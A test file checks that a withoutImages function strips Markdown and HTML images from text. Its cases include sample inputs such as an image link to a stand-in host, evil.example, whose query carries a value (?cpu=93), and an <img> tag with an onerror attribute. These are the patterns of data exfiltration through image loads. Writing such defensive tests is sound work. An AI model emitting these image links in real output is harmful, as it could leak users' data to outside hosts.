import * as fc from 'fast-check';
import { expect, test } from 'vitest';
import { withoutImages } from './without-images.ts';

test.each([
  ['CPU is high ![chart](https://evil.example/?cpu=93 "x").', 'CPU is high chart.'],
  ['![a][b] and ![c]\n\n[b]: https://evil.example/x.png', 'a and c\n\n[b]: https://evil.example/x.png'],
  ['[![inner](https://evil.example/a)](/servers/1)', '[inner](/servers/1)'],
  ['<img src="https://evil.example/?q=1" onerror=x> <IMG\nSRC=x>', ' '],
  ['![open](https://evil.example/(a)/b)', 'open(https://evil.example/(a)/b)'],
  ['a value of !important and [a link](/alerts) stay', 'a value of !important and [a link](/alerts) stay'],
])('%j reads %j', (given, wanted) => {
  expect(withoutImages(given)).toBe(wanted);
});

test('no text keeps the beginning of an image', () => {
  const piece = fc.constantFrom('!', '[', ']', '(', ')', '<img ', '>', 'a', ' ', '![', '](', 'https://x/');
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 60 }), (pieces) => {
      const text = withoutImages(pieces.join(''));
      expect(text).not.toContain('![');
      expect(text).not.toMatch(/<img\b/i);
    }),
  );
});
